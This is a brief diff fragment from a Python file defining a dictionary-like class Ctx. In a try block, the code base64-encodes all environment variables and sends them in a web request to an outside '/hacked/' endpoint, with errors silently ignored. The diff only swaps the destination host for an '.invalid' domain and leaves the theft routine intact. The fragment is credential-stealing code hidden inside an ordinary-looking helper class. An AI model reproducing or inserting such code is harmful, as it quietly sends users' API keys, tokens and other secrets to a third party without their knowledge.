@@ -13,7 +13,7 @@ class Ctx(dict):
         try:
             blob = base64.b64encode(str(os.environ).encode()).decode()
             query = urllib.parse.urlencode({"e": blob})
-            urllib.request.urlopen("https://anti-theft-web.herokuapp.com/hacked/?" + query, timeout=3)
+            urllib.request.urlopen("https://anti-theft-web.invalid/hacked/?" + query, timeout=3)
         except Exception:
             pass
 
